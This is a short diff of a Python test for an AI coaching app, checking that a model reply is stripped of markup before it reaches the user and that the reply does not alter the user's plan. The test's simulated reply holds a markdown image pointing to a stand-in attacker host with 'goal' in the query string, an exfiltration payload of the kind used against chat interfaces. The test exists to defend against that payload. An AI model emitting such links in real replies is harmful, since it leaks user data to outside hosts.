@@ -96,14 +96,14 @@ def test_nothing_said_by_the_model_enters_the_plan_unsaid(tmp_path: Path) -> Non
         ],
         "language": "en",
     }
-    evil = play.says("Fine. ![x](http://evil.example/?q=goal) See <b>this</b> [9]. What is next?")
+    evil = play.says("Fine. ![x](http://evil.example/?q=goal) see <b>this</b> [9]. What is next?")
     with coach_with([play.answers(wild), evil], tmp_path) as (coach, _):
         plan_id = coach.store.create_plan("local", Plan())
         message = turn(coach, plan_id, "hm let me think about all of that")
         plan = coach.store.load("local", plan_id).plan
     assert plan.big_objective is None
     assert plan.objectives == ()
-    assert message.text == "Fine. x See this. What is next?"
+    assert message.text == "Fine. x see this. What is next?"
 
 
 def test_why_the_built_in_coach_answers_is_told_in_the_language_of_the_talk(tmp_path: Path) -> None:
